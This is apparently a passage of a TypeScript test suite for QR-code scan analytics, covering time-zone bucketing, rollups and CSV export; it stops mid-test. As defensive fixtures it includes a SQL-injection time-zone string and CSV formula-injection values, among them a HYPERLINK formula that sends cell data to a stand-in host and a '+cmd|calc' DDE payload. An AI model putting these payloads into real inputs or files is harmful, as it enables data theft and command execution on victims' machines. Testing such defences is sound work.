import { type Kysely, sql } from 'kysely';
import pino from 'pino';
import { beforeEach, describe, expect, it } from 'vitest';
import {
  type AnalyticsScope,
  audienceBreakdowns,
  createScanRollupJob,
  exportScansCsv,
  foldScans,
  rankedCodes,
  scanBreakdowns,
  scansByWeekHour,
  scanTimeSeries,
  scanTotals,
} from '../../src/analytics/index.js';
import * as scanRollupMigration from '../../src/db/migrations/20261123T1500-scan-rollup.js';
import * as withoutCodeKeyMigration from '../../src/db/migrations/20261123T1700-scan-hourly-without-code-key.js';
import * as packedScansMigration from '../../src/db/migrations/20261125T1839-packed-scans.js';
import * as scanAudienceMigration from '../../src/db/migrations/20261127T0000-scan-audience.js';
import * as scanRollupAudienceMigration from '../../src/db/migrations/20261127T0100-scan-rollup-audience.js';
import * as codeRoutingMigration from '../../src/db/migrations/20261127T0300-code-routing.js';
import { newId } from '../../src/ids.js';
import { inTimeZone } from '../../src/analytics/time-zones.js';
import { pruneExpired } from '../../src/maintenance/prune.js';
import { prepareScanBatch, type ScanEvent, writeScanBatch } from '../../src/redirect/scan-batch.js';
import { type TestDatabase, useTestDatabase } from '../support/database.js';

let database: TestDatabase;
useTestDatabase((created) => (database = created));
beforeEach(async () => {
  await sql`truncate accounts, qr_codes, qr_code_scan_increments, scan_groups, scan_batches, scan_hourly, account_scan_hourly,
    scan_hourly_audience, account_scan_hourly_audience cascade`.execute(database.db);
  await sql`update scan_rollup_state set folded_through_id = 0`.execute(database.db);
});

interface Code {
  id: string;
  accountId: string;
  slug: string;
  name: string;
}

async function account(): Promise<string> {
  const id = newId('acc');
  await sql`insert into accounts (id, name, plan) values (${id}, 'Acme', 'business')`.execute(database.db);
  return id;
}

async function code(accountId: string, name = 'Poster'): Promise<Code> {
  const id = newId('qr');
  const slug = id.slice(-8);
  await sql`insert into qr_codes (id, account_id, name, slug, destination_url, created_at, updated_at)
    values (${id}, ${accountId}, ${name}, ${slug}, 'https://example.com/', now(), now())`.execute(database.db);
  return { id, accountId, slug, name };
}

type ScanFields = Partial<Pick<ScanEvent, 'device' | 'os' | 'browser' | 'destinationUrl' | 'referrerHost' | 'bot'>>;

/** Written as the redirect writes them: rows, counters and the batch id in one statement. */
async function record(target: Code, times: Array<string | Date>, fields: ScanFields = {}): Promise<void> {
  const scans = times.map((at) => ({
    codeId: target.id,
    accountId: target.accountId,
    at: new Date(at),
    device: 'mobile',
    os: 'iOS',
    browser: 'Mobile Safari',
    destinationUrl: 'https://example.com/',
    referrerHost: null,
    country: null,
    region: null,
    city: null,
    language: null,
    visitor: null,
    bot: false,
    ...fields,
  }));
  for (let i = 0; i < scans.length; i += 500) await writeScanBatch(database.db, prepareScanBatch(scans.slice(i, i + 500)));
}

const counts = (series: { buckets: Array<{ label: string; scans: number }> }) => Object.fromEntries(series.buckets.map((b) => [b.label, b.scans]));

describe('scans over time', () => {
  it('buckets days in the viewer zone, zero-filled, with a 23-hour day at the DST change in Europe/Berlin', async () => {
    const c = await code(await account());
    // Berlin moves from +01:00 to +02:00 at 2026-03-29 01:00 UTC.
    await record(c, ['2026-03-28T22:59:59.999Z', '2026-03-28T23:00:00.000Z']); // 23:59:59 on the 28th, 00:00 on the 29th
    await foldScans(database.db);
    await record(c, ['2026-03-29T21:59:59.999Z', '2026-03-29T22:00:00.000Z']); // 23:59:59 on the 29th (CEST), 00:00 on the 30th
    const series = await scanTimeSeries(database.db, {
      scope: { accountId: c.accountId, codeId: c.id },
      range: '7d',
      timeZone: 'Europe/Berlin',
      now: new Date('2026-03-31T10:00:00Z'),
    });
    expect(series).toMatchObject({ timeZone: 'Europe/Berlin', bucketSize: 'day', total: 4, exactBoundaries: true });
    expect(series.buckets.map((b) => [b.label, b.start.toISOString(), b.scans])).toEqual([
      ['2026-03-25', '2026-03-24T23:00:00.000Z', 0],
      ['2026-03-26', '2026-03-25T23:00:00.000Z', 0],
      ['2026-03-27', '2026-03-26T23:00:00.000Z', 0],
      ['2026-03-28', '2026-03-27T23:00:00.000Z', 1],
      ['2026-03-29', '2026-03-28T23:00:00.000Z', 2],
      ['2026-03-30', '2026-03-29T22:00:00.000Z', 1],
      ['2026-03-31', '2026-03-30T22:00:00.000Z', 0],
    ]);
    expect(series.from.toISOString()).toBe('2026-03-24T23:00:00.000Z');
  });

  it('shows the last 24 hours labelled in local time: 02:00 is skipped in spring and repeated in autumn', async () => {
    const c = await code(await account());
    const scope = { accountId: c.accountId, codeId: c.id };
    await record(c, ['2026-03-29T00:30:00Z', '2026-03-29T01:10:00Z', '2026-03-29T01:20:00Z']);
    const spring = await scanTimeSeries(database.db, { scope, range: '24h', timeZone: 'Europe/Berlin', now: new Date('2026-03-29T05:30:00Z') });
    expect(spring.buckets).toHaveLength(24);
    expect(spring.buckets[0]!.start.toISOString()).toBe('2026-03-28T06:00:00.000Z');
    expect(spring.buckets.at(-1)!.start.toISOString()).toBe('2026-03-29T05:00:00.000Z');
    const labels = spring.buckets.map((b) => b.label);
    expect(labels.slice(17, 21)).toEqual(['2026-03-29 00:00', '2026-03-29 01:00', '2026-03-29 03:00', '2026-03-29 04:00']);
    expect(counts(spring)).toMatchObject({ '2026-03-29 01:00': 1, '2026-03-29 03:00': 2, '2026-03-29 00:00': 0 });

    // Berlin moves back to +01:00 at 2026-10-25 01:00 UTC: 02:00 local comes twice.
    await record(c, ['2026-10-25T00:15:00Z', '2026-10-25T01:15:00Z', '2026-10-25T01:45:00Z']);
    const autumn = await scanTimeSeries(database.db, { scope, range: '24h', timeZone: 'Europe/Berlin', now: new Date('2026-10-25T03:00:00Z') });
    const twos = autumn.buckets.filter((b) => b.label === '2026-10-25 02:00');
    expect(twos.map((b) => [b.start.toISOString(), b.scans])).toEqual([
      ['2026-10-25T00:00:00.000Z', 1],
      ['2026-10-25T01:00:00.000Z', 2],
    ]);
    expect(autumn.total).toBe(3);
  });

  it('shows "all" by day for up to a year, then by week (Mondays), then by month', async () => {
    const c = await code(await account());
    const scope = { accountId: c.accountId, codeId: c.id };
    await record(c, ['2026-01-01T12:00:00Z', '2026-01-03T12:00:00Z']);
    const now = new Date('2026-06-01T12:00:00Z');
    const daily = await scanTimeSeries(database.db, { scope, range: 'all', timeZone: 'UTC', now });
    expect(daily).toMatchObject({ bucketSize: 'day', total: 2 });
    expect(daily.buckets).toHaveLength(152); // 1 January to 1 June
    expect(daily.buckets.slice(0, 3).map((b) => [b.label, b.scans])).toEqual([['2026-01-01', 1], ['2026-01-02', 0], ['2026-01-03', 1]]);

    await record(c, ['2024-06-05T12:00:00Z']); // a Wednesday
    const weekly = await scanTimeSeries(database.db, { scope, range: 'all', timeZone: 'UTC', now });
    expect(weekly).toMatchObject({ bucketSize: 'week', total: 3 });
    expect(weekly.buckets[0]).toMatchObject({ label: '2024-06-03', scans: 1 });
    expect(weekly.buckets.at(-1)!.label).toBe('2026-06-01'); // a Monday

    await record(c, ['2020-02-10T12:00:00Z']);
    const monthly = await scanTimeSeries(database.db, { scope, range: 'all', timeZone: 'UTC', now });
    expect(monthly).toMatchObject({ bucketSize: 'month', total: 4 });
    expect(monthly.buckets).toHaveLength(6 * 12 + 5);
    expect(monthly.buckets[0]).toMatchObject({ label: '2020-02', scans: 1 });
  });

  it('rounds day boundaries to whole UTC hours in zones offset by half an hour (Asia/Kolkata), and says so', async () => {
    const c = await code(await account());
    // Midnight in Kolkata (+05:30) on 2 March is 18:30 UTC on 1 March; the hour 18:00–19:00 UTC counts on 1 March.
    await record(c, ['2026-03-01T18:45:00Z', '2026-03-01T19:00:00Z']);
    const series = await scanTimeSeries(database.db, {
      scope: { accountId: c.accountId, codeId: c.id },
      range: '7d',
      timeZone: 'Asia/Kolkata',
      now: new Date('2026-03-03T12:00:00Z'),
    });
    expect(series).toMatchObject({ timeZone: 'Asia/Kolkata', exactBoundaries: false });
    expect(counts(series)).toMatchObject({ '2026-03-01': 1, '2026-03-02': 1 });
  });

  it('answers in UTC for a missing or unknown zone, and refuses offsets', async () => {
    const c = await code(await account());
    const scope = { accountId: c.accountId, codeId: c.id };
    for (const timeZone of [undefined, '', 'Mars/Olympus', '+05:30', "UTC'; drop table scans; --"]) {
      const series = await scanTimeSeries(database.db, { scope, range: '7d', timeZone, now: new Date('2026-03-03T12:00:00Z') });
      expect(series.timeZone).toBe('UTC');
    }
    const series = await scanTimeSeries(database.db, { scope, range: '7d', timeZone: 'america/new_york', now: new Date('2026-03-03T12:00:00Z') });
    expect(series.timeZone).toBe('America/New_York');
    // A zone Intl knows and PostgreSQL's older zone data does not: the query is answered in UTC.
    const zoneOfQuery = (timeZone: string) => sql`select now() at time zone ${timeZone}`.execute(database.db).then(() => timeZone);
    expect(await inTimeZone('Mars/Olympus', zoneOfQuery)).toBe('UTC');
  });
});

describe('breakdowns and totals', () => {
  it('breaks the range down by device, OS and browser, top N and "other", adding up to the series total', async () => {
    const c = await code(await account());
    const at = ['2026-05-10T10:00:00Z'];
    const times = (n: number) => Array.from({ length: n }, () => at[0]!);
    await record(c, times(5), { device: 'mobile', os: 'iOS', browser: 'Mobile Safari' });
    await record(c, times(4), { device: 'mobile', os: 'Android', browser: 'Chrome' });
    await foldScans(database.db);
    await record(c, times(3), { device: 'desktop', os: 'Windows', browser: 'Edge' });
    await record(c, times(2), { device: 'tablet', os: 'Android', browser: 'Firefox' });
    await record(c, times(1), { device: 'smarttv', os: 'Tizen', browser: 'Samsung Browser' });
    await record(c, ['2026-04-01T10:00:00Z'], { device: 'console' }); // outside 7d
    const input = { scope: { accountId: c.accountId, codeId: c.id }, range: '7d' as const, timeZone: 'UTC', now: new Date('2026-05-11T00:00:00Z') };
    const breakdowns = await scanBreakdowns(database.db, { ...input, top: 2 });
    expect(breakdowns.total).toBe(15);
    expect(breakdowns.device).toEqual([
      { value: 'mobile', scans: 9, uniqueScans: 0, other: false },
      { value: 'desktop', scans: 3, uniqueScans: 0, other: false },
      { value: 'other', scans: 3, uniqueScans: 0, other: true },
    ]);
    expect(breakdowns.os).toEqual([
      { value: 'Android', scans: 6, uniqueScans: 0, other: false },
      { value: 'iOS', scans: 5, uniqueScans: 0, other: false },
      { value: 'other', scans: 4, uniqueScans: 0, other: true },
    ]);
    // One value left over is named, not hidden in "other".
    expect((await scanBreakdowns(database.db, { ...input, top: 4 })).browser.map((e) => e.value)).toEqual([
      'Mobile Safari',
      'Chrome',
      'Edge',
      'Firefox',
      'Samsung Browser',
    ]);
    expect((await scanTimeSeries(database.db, input)).total).toBe(15);
  });

  it('totals the lifetime counters, bots apart; an account counts its deleted codes; another account gets 404', async () => {
    const owner = await account();
    const kept = await code(owner);
    const deleted = await code(owner);
    await record(kept, ['2026-05-10T10:00:00Z', '2026-05-10T11:00:00Z']);
    await record(kept, ['2026-05-10T11:00:00Z'], { bot: true });
    await record(deleted, ['2026-05-10T12:00:00Z']);
    await sql`update qr_codes set deleted_at = now() where id = ${deleted.id}`.execute(database.db);

    expect(await scanTotals(database.db, { accountId: owner, codeId: kept.id })).toEqual({ total: 3, human: 2, unique: 0, bot: 1, filters: {} });
    expect(await scanTotals(database.db, { accountId: owner })).toEqual({ total: 4, human: 3, unique: 0, bot: 1, filters: {} });
    const now = new Date('2026-05-11T00:00:00Z');
    expect((await scanTimeSeries(database.db, { scope: { accountId: owner }, range: '7d', timeZone: 'UTC', now })).total).toBe(3);

    const stranger = await account();
    for (const scope of [{ accountId: stranger, codeId: kept.id }, { accountId: owner, codeId: deleted.id }, { accountId: owner, codeId: 'qr_nope' }]) {
      await expect(scanTotals(database.db, scope)).rejects.toMatchObject({ status: 404, code: 'not_found' });
      await expect(scanTimeSeries(database.db, { scope, range: '7d', now })).rejects.toMatchObject({ status: 404 });
      await expect(scanBreakdowns(database.db, { scope, range: '7d', now })).rejects.toMatchObject({ status: 404 });
      await expect(exportScansCsv(database.db, scope)).rejects.toMatchObject({ status: 404 });
    }
    expect((await scanTimeSeries(database.db, { scope: { accountId: stranger }, range: '7d', now })).total).toBe(0);
  });
});

describe('the rollup', () => {
  /** Counts straight from `scans`, the way the numbers would be without a rollup. */
  async function rawDaily(scope: AnalyticsScope, timeZone: string): Promise<Record<string, number>> {
    const { rows } = await sql<{ day: string; n: number }>`
      select to_char(date_trunc('day', s.created_at at time zone ${timeZone}), 'YYYY-MM-DD') as day, count(*)::int as n
      from scans s join qr_codes c on c.id = s.qr_code_id
      where c.account_id = ${scope.accountId} and (${scope.codeId ?? null}::text is null or s.qr_code_id = ${scope.codeId ?? null})
      group by 1`.execute(database.db);
    return Object.fromEntries(rows.map((r) => [r.day, r.n]));
  }
  const nonZero = (series: { buckets: Array<{ label: string; scans: number }> }) =>
    Object.fromEntries(series.buckets.filter((b) => b.scans > 0).map((b) => [b.label, b.scans]));

  it('gives the raw counts whatever has been folded, and keeps them when raw scans are pruned', async () => {
    const owner = await account();
    const codes = [await code(owner), await code(owner), await code(owner)];
    const now = new Date();
    const scopes: AnalyticsScope[] = [{ accountId: owner }, ...codes.map((c) => ({ accountId: owner, codeId: c.id }))];
    const snapshot = async () =>
      Promise.all(scopes.map(async (scope) => nonZero(await scanTimeSeries(database.db, { scope, range: '90d', timeZone: 'America/New_York', now }))));
    // 270 scans over 80 days, in 6 rounds, each partly folded in small steps.
    let expected: Array<Record<string, number>> = [];
    for (let round = 0; round < 6; round++) {
      for (const [i, c] of codes.entries()) {
        const times = Array.from({ length: 10 + i * 5 }, (_, n) => new Date(now.getTime() - ((round * 37 + n * 11 + i) % 80) * 86_400_000 - n * 3_600_000));
        await record(c, times, { device: ['mobile', 'desktop', 'tablet'][(round + i) % 3]! });
      }
      if (round % 2 === 0) await foldScans(database.db, { maxIdsPerStep: 7 });
      expected = await Promise.all(scopes.map((scope) => rawDaily(scope, 'America/New_York')));
      expect(await snapshot()).toEqual(expected);
    }
    const folded = await foldScans(database.db);
    expect(folded.status).toBe('folded');
    const { rows } = await sql<{ max: number }>`select max(id) as max from scan_groups`.execute(database.db);
    expect(folded.foldedThroughId).toBe(rows[0]!.max);
    expect(await snapshot()).toEqual(expected);

    await sql`update scan_groups set first_at = first_at - interval '1000 days', times = case when times is not null then array(select t - interval '1000 days' from unnest(times) as t) end`
      .execute(database.db); // as if old
    await sql`update scan_hourly set hour = hour - interval '1000 days'`.execute(database.db);
    await sql`update account_scan_hourly set hour = hour - interval '1000 days'`.execute(database.db);
    const before = await scanBreakdowns(database.db, { scope: scopes[0]!, range: 'all', now });
    await pruneExpired(database.db, { webhookDeliveryDays: 30, scanDays: 90 });
    expect(await sql`select 1 from scans`.execute(database.db).then((r) => r.rows)).toHaveLength(0);
    expect(await scanBreakdowns(database.db, { scope: scopes[0]!, range: 'all', now })).toEqual(before);
    expect(before.total).toBe(270);
  });

  it('never counts a scan twice when two instances fold at once while scans are written', async () => {
    const c = await code(await account());
    let writing = true;
    const writer = (async () => {
      for (let i = 0; i < 40; i++) await record(c, Array.from({ length: 25 }, (_, n) => new Date(Date.UTC(2026, 4, 1 + (n % 5), i % 24))));
      writing = false;
    })();
    const folder = async () => {
      const statuses: string[] = [];
      while (writing) statuses.push((await foldScans(database.db, { maxIdsPerStep: 30 })).status);
      return statuses;
    };
    const [, a, b] = await Promise.all([writer, folder(), folder()]);
    expect([...a, ...b]).toContain('folded');
    await foldScans(database.db);
    const { rows } = await sql<{ code: number; account: number }>`
      select (select sum(scans) from scan_hourly)::int as code, (select sum(scans) from account_scan_hourly)::int as account`.execute(database.db);
    expect(rows[0]).toEqual({ code: 1000, account: 1000 });
  });

  it('waits for a scan batch still being written, so its lower id is not skipped when a later one commits first', async () => {
    const c = await code(await account());
    let release!: () => void;
    const released = new Promise<void>((resolve) => (release = resolve));
    let inserted!: () => void;
    const insertedSlowly = new Promise<void>((resolve) => (inserted = resolve));
    // A batch that draws its id, then takes its time to commit.
    const slow = database.db.transaction().execute(async (trx) => {
      await sql`insert into scans (qr_code_id, created_at, device, os, browser) values (${c.id}, '2026-05-01T10:00:00Z', 'mobile', 'iOS', 'Safari')`.execute(trx);
      inserted();
      await released;
    });
    try {
      await insertedSlowly;
      await record(c, ['2026-05-01T11:00:00Z']); // a later id, committed first
      expect(await foldScans(database.db, { writerWaitMs: 50 })).toMatchObject({ status: 'waiting', foldedThroughId: 0 });
      const folding = foldScans(database.db, { writerWaitMs: 10_000 });
      // Released while the fold waits for the writer: 100 ms is well inside its 10 s writerWaitMs. Released before
      // the fold looked, it folds all the same; the wait itself was checked by the 50 ms fold above.
      setTimeout(release, 100);
      expect(await folding).toMatchObject({ status: 'folded', scans: 2 });
    } finally {
      release(); // even when an expectation failed: an open transaction would block the next tests
      await slow;
    }
    const { rows } = await sql<{ n: number }>`select sum(scans)::int as n from scan_hourly`.execute(database.db);
    expect(rows[0]!.n).toBe(2);
  });

  it('is filled by the migration with the scans recorded before it', async () => {
    const c = await code(await account());
    await record(c, ['2026-05-01T10:15:00Z', '2026-05-01T10:45:00Z', '2026-05-02T08:00:00Z']);
    // As the migrator runs it: in a transaction, on a database that already holds scans.
    await database.db.transaction().execute(async (trx) => {
      const migrating = trx as unknown as Kysely<unknown>;
      // Back to one row per scan (the schema that migration ran on), and packed again after it.
      await codeRoutingMigration.down(migrating);
      await scanRollupAudienceMigration.down(migrating);
      await scanAudienceMigration.down(migrating);
      await packedScansMigration.down(migrating);
      await scanRollupMigration.down(migrating);
      await scanRollupMigration.up(migrating);
      await withoutCodeKeyMigration.up(migrating);
      await packedScansMigration.up(migrating);
      await scanAudienceMigration.up(migrating);
      await scanRollupAudienceMigration.up(migrating);
      await codeRoutingMigration.up(migrating);
    });
    const { rows } = await sql<{ hour: Date; scans: number }>`select hour, scans::int from scan_hourly order by hour`.execute(database.db);
    expect(rows.map((r) => [r.hour.toISOString(), r.scans])).toEqual([
      ['2026-05-01T10:00:00.000Z', 2],
      ['2026-05-02T08:00:00.000Z', 1],
    ]);
    const state = await sql<{ id: number }>`select folded_through_id as id from scan_rollup_state`.execute(database.db);
    const max = await sql<{ id: number }>`select max(id) as id from scan_groups`.execute(database.db);
    expect(state.rows[0]!.id).toBe(max.rows[0]!.id);
  });

  it('folds every few seconds once started, and stops', async () => {
    const c = await code(await account());
    const job = createScanRollupJob({ db: database.db, logger: pino({ level: 'silent' }), intervalMs: 20 });
    job.start();
    try {
      await record(c, ['2026-05-01T10:00:00Z']);
      const folded = () => sql<{ n: number }>`select coalesce(sum(scans), 0)::int as n from scan_hourly`.execute(database.db).then((r) => r.rows[0]!.n);
      await expect.poll(folded, { timeout: 10_000 }).toBe(1);
    } finally {
      await job.stop();
    }
  });
});

/** RFC 4180, as a spreadsheet reads it. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') record.push(field), (field = '');
    else if (ch === '\r' && text[i + 1] === '\n') record.push(field), records.push(record), (record = []), (field = ''), i++;
    else field += ch;
  }
  expect(field).toBe('');
  expect(record).toEqual([]);
  return records;
}

describe('CSV export', () => {
  it('streams 20,000 scans in chunks of 5,000 that parse back exactly, hostile values escaped and defused', async () => {
    const owner = await account();
    const hostileName = '=HYPERLINK("http://evil.example/?"&A1,"click"), "quoted"\r\nnext line';
    const big = await code(owner, hostileName);
    const small = await code(owner, '@SUM(1+1)');
    const start = Date.parse('2026-01-01T00:00:00Z');
    // 20,000 scans written as rows directly (the batch path would take minutes here), counters to match.
    await sql`
      insert into scans (qr_code_id, created_at, device, os, browser, destination_url, referrer_host)
      select ${big.id}, ${new Date(start)}::timestamptz + n * interval '1.5 seconds' + interval '123 microseconds',
             (array['mobile','desktop'])[1 + n % 2], 'iOS', 'Mobile Safari', 'https://example.com/a?x=1,y=2', 'ref' || n || '.example'
      from generate_series(0, 19999) n`.execute(database.db);
    await sql`update qr_codes set scan_count = 20000 where id = ${big.id}`.execute(database.db);
    const hostile = ['-1+2', '+cmd|calc', 'a"b', 'line\nbreak', '\ttab', 'comma,host'];
    for (const [i, referrerHost] of hostile.entries()) {
      await record(small, [new Date(start + i * 1000)], { referrerHost, destinationUrl: `https://example.com/${i}` });
    }

    const chunks: string[] = [];
    for await (const chunk of await exportScansCsv(database.db, { accountId: owner, codeId: big.id })) chunks.push(chunk);
    expect(chunks).toHaveLength(1 + 4); // the header, then one chunk per query of 5,000
    const records = parseCsv(chunks.join(''));
    expect(records[0]).toEqual([
      'created_at', 'device', 'os', 'browser', 'destination_url', 'referrer_host', 'country', 'region', 'city', 'language', 'unique',
      'rule_id', 'variant',
    ]);
    expect(records).toHaveLength(20_001);
    records.slice(1).forEach((r, n) => {
      expect(r).toEqual([
        new Date(start + n * 1500).toISOString(),
        n % 2 ? 'desktop' : 'mobile',
        'iOS',
        'Mobile Safari',
        'https://example.com/a?x=1,y=2',
        `ref${n}.example`,
        '', '', '', '', '', '', '',
      ]);
    });

    const accountCsv: string[] = [];
    for await (const chunk of await exportScansCsv(database.db, { accountId: owner })) accountCsv.push(chunk);
    const all = parseCsv(accountCsv.join(''));
    expect(all[0]).toEqual([
      'code_id', 'code_name', 'created_at', 'device', 'os', 'browser', 'destination_url', 'referrer_host',
      'country', 'region', 'city', 'language', 'unique', 'rule_id', 'variant',
    ]);
    expect(all).toHaveLength(1 + 20_000 + hostile.length);
    expect(all[1]!.slice(0, 3)).toEqual([big.id, `'${hostileName}`, new Date(start).toISOString()]);
    const smallRows = all.slice(-hostile.length);
    expect(smallRows.map((r) => [r[0], r[1], r[7]])).toEqual(
      hostile.map((host) => [small.id, "'@SUM(1+1)", /^[-+\t]/.test(host) ? `'${host}` : host]),
    );
    // In the file itself, each defused value is quoted and starts with the apostrophe.
    expect(accountCsv.join('')).toContain(`"'-1+2"`);
  });

  it('exports an account code by code, oldest code first, reading small codes together', async () => {
    const owner = await account();
    const [a, b, c] = [await code(owner, 'A'), await code(owner, 'B'), await code(owner, 'C')];
    await record(a, ['2026-01-02T00:00:00Z', '2026-01-01T00:00:00Z']);
    await record(b, ['2026-01-03T00:00:00Z']);
    const csv = async () => {
      let text = '';
      for await (const chunk of await exportScansCsv(database.db, { accountId: owner }, { pageSize: 3 })) text += chunk;
      return parseCsv(text).slice(1).map((r) => `${r[1]} ${r[2]!.slice(0, 10)}`);
    };
    expect(await csv()).toEqual(['A 2026-01-01', 'A 2026-01-02', 'B 2026-01-03']);
    // Rows its counter does not know of (written by hand): the group is re-read code by code, nothing is lost.
    await sql`insert into scans (qr_code_id, created_at, device, os, browser) values
      (${c.id}, '2026-01-05T00:00:00Z', 'mobile', 'iOS', 'Safari'), (${c.id}, '2026-01-04T00:00:00Z', 'mobile', 'iOS', 'Safari')`.execute(database.db);
    expect(await csv()).toEqual(['A 2026-01-01', 'A 2026-01-02', 'B 2026-01-03', 'C 2026-01-04', 'C 2026-01-05']);
  });
});

interface GroupFields {
  device?: string;
  os?: string;
  browser?: string;
  referrer?: string | null;
  country?: string | null;
  region?: string | null;
  city?: string | null;
  language?: string | null;
  unique?: boolean | null;
}

/**
 * Scan groups with an audience, written as the recording path stores them (one row per second and everything a
 * scan records; `count` scans in that second): the rollup and the queries read only these columns.
 */
async function group(target: Code, at: string, count: number, fields: GroupFields = {}): Promise<void> {
  const first = new Date(at);
  const times = count > 1 ? Array.from({ length: count }, (_, n) => new Date(first.getTime() + n)) : null;
  await sql`
    insert into scan_groups (qr_code_id, device, os, browser, destination_url, referrer_host, country, region, city, language,
                             is_unique, first_at, times)
    values (${target.id}, ${fields.device ?? 'mobile'}, ${fields.os ?? 'iOS'}, ${fields.browser ?? 'Mobile Safari'},
            'https://example.com/', ${fields.referrer ?? null}, ${fields.country ?? null}, ${fields.region ?? null},
            ${fields.city ?? null}, ${fields.language ?? null}, ${fields.unique ?? null}, ${first}, ${times})`.execute(database.db);
  await sql`update qr_codes set scan_count = scan_count + ${count},
    unique_scan_count = unique_scan_count + ${fields.unique ? count : 0} where id = ${target.id}`.execute(database.db);
}

describe('audience analytics', () => {
  // A database of its own (the file's helpers read `database`, which this points at a fresh one for this last
  // block): folds here count every scan of the database, and the CSV tests above leave 20,000 unfolded, whose fold
  // in two-id steps took longer than a test's 30 s.
  useTestDatabase((created) => (database = created));
  const now = new Date('2026-05-12T00:00:00Z');
  const munich = { country: 'DE', region: 'Bavaria', city: 'Munich', language: 'de' };

  /** Two codes, 12 scans: a burst from Munich (unique and not), a desktop in the US, two phones nobody could place, a French code. */
  async function audience(): Promise<{ owner: string; a: Code; b: Code }> {
    const owner = await account();
    const a = await code(owner, 'Window');
    const b = await code(owner, 'Flyer');
    await group(a, '2026-05-10T10:00:05Z', 3, { ...munich, referrer: 'instagram.com', unique: true });
    await group(a, '2026-05-10T10:00:05Z', 2, { ...munich, referrer: 'instagram.com', unique: false });
    await group(a, '2026-05-10T11:00:00Z', 1, { country: 'US', language: 'en', device: 'desktop', os: 'Windows', browser: 'Chrome', unique: true });
    await group(a, '2026-05-11T09:00:00Z', 2, { device: 'mobile', os: 'Android', browser: 'Chrome' });
    await group(b, '2026-05-10T10:30:00Z', 4, { country: 'FR', language: 'fr', unique: true });
    return { owner, a, b };
  }

  /** Everything the pages read, for one filter set. */
  async function everything(owner: string, filters = {}) {
    const window = { scope: { accountId: owner }, range: '7d' as const, timeZone: 'Europe/Berlin', now, filters };
    const [series, breakdowns, places, week, ranked, totals] = await Promise.all([
      scanTimeSeries(database.db, window),
      scanBreakdowns(database.db, window),
      audienceBreakdowns(database.db, window),
      scansByWeekHour(database.db, window),
      rankedCodes(database.db, { accountId: owner, range: '7d', timeZone: 'Europe/Berlin', now, filters }),
      scanTotals(database.db, { accountId: owner }, filters),
    ]);
    return { series, breakdowns, places, week, ranked, totals };
  }

  it('counts countries, cities, languages, referrers, hours of the week and codes exactly, folded or not, narrowed by filters', async () => {
    const { owner, a, b } = await audience();
    const unfolded = await everything(owner);
    const unfoldedDe = await everything(owner, { country: 'DE' });
    await foldScans(database.db, { maxIdsPerStep: 2 });
    const half = await sql<{ id: number }>`select folded_through_id as id from scan_rollup_state`.execute(database.db);
    expect(half.rows[0]!.id).toBeGreaterThan(0);
    await record(a, ['2026-05-11T09:00:00Z'], { device: 'mobile', os: 'Android', browser: 'Chrome' }); // a 13th, through the batch path
    const folded = await everything(owner);

    const { series, breakdowns, places, week, ranked, totals } = folded;
    expect([series.total, series.uniqueTotal, breakdowns.total, places.total, week.total]).toEqual([13, 8, 13, 13, 13]);
    expect(totals).toMatchObject({ human: 13, unique: 8, bot: 0 });
    const pick = (entries: Array<{ value: string; scans: number; uniqueScans: number }>) => entries.map((e) => [e.value, e.scans, e.uniqueScans]);
    expect(pick(places.countries)).toEqual([['DE', 5, 3], ['FR', 4, 4], ['', 3, 0], ['US', 1, 1]]);
    expect(places.cities).toEqual([{ value: 'Munich', country: 'DE', region: 'Bavaria', scans: 5, uniqueScans: 3, other: false }]);
    expect(pick(places.regions)).toEqual([['Bavaria', 5, 3]]);
    expect(pick(places.languages)).toEqual([['de', 5, 3], ['fr', 4, 4], ['', 3, 0], ['en', 1, 1]]);
    expect(pick(places.referrers)).toEqual([['', 8, 5], ['instagram.com', 5, 3]]);
    // Sunday 10 May, 12:00 and 13:00 in Berlin (UTC+2); Monday 11 May, 11:00.
    expect(week.scans[6]![12]).toBe(9);
    expect(week.scans[6]![13]).toBe(1);
    expect(week.scans[0]![11]).toBe(3);
    expect(week.uniqueScans[6]![12]).toBe(7);
    expect(week.max).toBe(9);
    expect(ranked.codes.map((c) => [c.name, c.scans, c.uniqueScans])).toEqual([['Window', 9, 4], ['Flyer', 4, 4]]);
    expect(ranked.scannedCodes).toBe(2);
    // All time, unfiltered: from the codes' lifetime counters (and the batch path's unfolded increment).
    const allTime = await rankedCodes(database.db, { accountId: owner, range: 'all', now });
    expect(allTime.codes.map((c) => [c.name, c.scans, c.uniqueScans])).toEqual([['Window', 9, 4], ['Flyer', 4, 4]]);

    // Germany only: every number narrows.
    const de = await everything(owner, { country: 'DE' });
    expect([de.series.total, de.series.uniqueTotal, de.breakdowns.total, de.places.total, de.week.total]).toEqual([5, 3, 5, 5, 5]);
    expect(de.totals).toEqual({ total: 5, human: 5, unique: 3, bot: null, filters: { country: 'DE' } });
    expect(pick(de.breakdowns.device)).toEqual([['mobile', 5, 3]]);
    expect(de.ranked.codes.map((c) => [c.id, c.scans])).toEqual([[a.id, 5]]);
    // The same before any fold (all raw) and after.
    expect({ ...unfoldedDe, totals: undefined }).toEqual({ ...de, totals: undefined });
    expect(unfolded.places.total).toBe(12);

    const frenchPhones = await everything(owner, { device: 'mobile', language: 'fr' });
    expect(frenchPhones.ranked.codes.map((c) => [c.id, c.scans, c.uniqueScans])).toEqual([[b.id, 4, 4]]);
    expect(pick(frenchPhones.places.countries)).toEqual([['FR', 4, 4]]);
    const android = await everything(owner, { os: 'Android', browser: 'Chrome' });
    expect(android.series.total).toBe(3);
    expect((await everything(owner, { country: 'JP' })).series.total).toBe(0);

    // One code's view.
    const codeView = await audienceBreakdowns(database.db, { scope: { accountId: owner, codeId: b.id }, range: '7d', now });
    expect(pick(codeView.countries)).toEqual([['FR', 4, 4]]);
  });

  it('exports the audience columns at the end, and only the filtered scans from a filtered page', async () => {
    const { owner, a } = await audience();
    const csv = async (filters = {}) => {
      let text = '';
      for await (const chunk of await exportScansCsv(database.db, { accountId: owner, codeId: a.id }, { filters })) text += chunk;
      return parseCsv(text);
    };
    const all = await csv();
    expect(all).toHaveLength(1 + 8);
    expect(all[0]!.slice(-7, -2)).toEqual(['country', 'region', 'city', 'language', 'unique']);
    expect(all.slice(1).map((r) => r.slice(-7, -2).join(' '))).toEqual([
